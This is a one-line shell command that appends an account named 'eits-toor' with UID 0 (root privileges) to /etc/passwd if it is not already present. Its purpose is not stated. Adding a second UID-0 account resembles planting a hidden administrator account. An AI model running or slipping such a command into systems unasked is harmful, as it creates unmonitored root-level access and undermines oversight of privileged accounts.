grep -q "^eits-toor:" /etc/passwd || echo "eits-toor:x:0:65534::/nonexistent:/usr/sbin/nologin" >>/etc/passwd
